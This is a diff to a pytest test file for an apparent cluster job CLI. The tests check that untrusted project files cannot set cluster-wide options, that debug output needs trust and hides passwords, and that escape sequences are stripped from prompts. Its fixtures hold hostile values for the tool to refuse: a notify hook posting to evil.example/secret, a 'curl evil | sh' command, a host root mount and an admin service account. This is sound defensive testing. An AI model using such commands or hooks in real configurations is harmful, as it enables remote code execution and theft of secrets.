@@ -39,10 +39,12 @@ FAR = {
     "local.kubernetes-namespace": "mallory",
     "local.kubernetes-node-selector": "evil=yes",
     "local.kubernetes-priority-class": "evil",
+    "local.kubernetes-priority-classes": "low=evil",
     "local.kubernetes-pull-secrets": "evil",
     "local.kubernetes-service-account": "admin",
     "local.kubernetes-storages": "home=host:/",
     "local.kubernetes-tolerations": "evil",
+    "local.slurm-high-qos": "evil",
     "local.slurm-images": "podman",
     "local.slurm-options": "--account=mallory",
     "local.ssh": "off",
@@ -53,7 +55,9 @@ FAR = {
     "ssh.gateway-key": "~/.ssh/id_rsa",
     "container.engine": "podman",
     "storage.mounts": ["lab/home=/home"],
+    "notify": ["https://evil.example/secret", {"command": "curl evil | sh"}],
 }
+SHOWN = {"notify": "post to evil.example on end, command 'curl evil | sh' on end"}
 
 
 @pytest.fixture
@@ -89,6 +93,7 @@ def test_setting_that_affects_more_than_a_job_is_refused(project, name, file):
     text = json.dumps(section if file == OWN else {"openpai": section})
     project.write(file, text)
     shown = str(FAR[name]).lower() if isinstance(FAR[name], bool) else str(FAR[name]).strip("[']")
+    shown = SHOWN.get(name, shown)
     assert_refused(project.pai("cluster.list"), f"{project.folder}/{file} sets {name}={shown};")
     own = json.loads(json.dumps(VARIABLES[name].default))
     assert value(project, name) == own
@@ -114,6 +119,25 @@ def test_setting_that_affects_only_a_job_always_applies(project):
         512,
         ["train.py", "."],
     ]
+
+
+def test_a_file_turns_on_debug_output_in_the_home_and_in_trusted_projects(shell):
+    """Invoke prints its settings then, and passwords may be among them."""
+    shell.environment["INVOKE_SUDO_PASSWORD"] = "hunter2"
+    (shell.project / ".openpai").mkdir()
+    file, on = shell.project / ".openpai" / "debug_enable", "debug output is on because of"
+    file.write_text("")
+    ran = shell.pai("cluster.list")
+    assert ran.err.startswith(f"{file} is ignored: the folder is not trusted;") and "hunter2" not in ran.err
+    assert ran.err.count("\n") == 1
+    assert f"trusted: debug output (-d) ({file})" in shell.pai("config.trust").err
+    ran = shell.pai("cluster.list")
+    assert ran.code == 0 and ran.err.count(f"{on} {file}; remove the file to turn it off\n") == 1
+    assert "invoke.config.merge" in ran.err
+    file.unlink()
+    assert shell.pai("cluster.list").err == ""
+    (shell.home / "debug_enable").write_text("")
+    assert f"{on} {shell.home / 'debug_enable'};" in shell.pai("cluster.list").err
 
 
 def test_the_users_own_files_variables_and_tasks_need_no_trust(project, home, monkeypatch, tmp_path):
@@ -511,7 +535,8 @@ def test_any_answer_but_yes_at_the_prompt_means_no(shell, keys, code):
         terminal.type(keys)
         assert terminal.code() == code
         shown += terminal.rest()
-    assert f"{shell.project}/invoke.yaml sets:\r\n  python=one\\x1b[2J\r\n".encode() in shown
+    words = b" ".join(shown.split())  # wrapped, as the path is long
+    assert f"{shell.project}/invoke.yaml sets: python=one\\x1b[2J ".encode() in words
     assert (b"`inv config.trust`" in shown) is (code == 120)
     assert b"\x1b" not in shown and b"ALIAS" not in shown
     assert not (shell.home / "trust.yaml").exists()
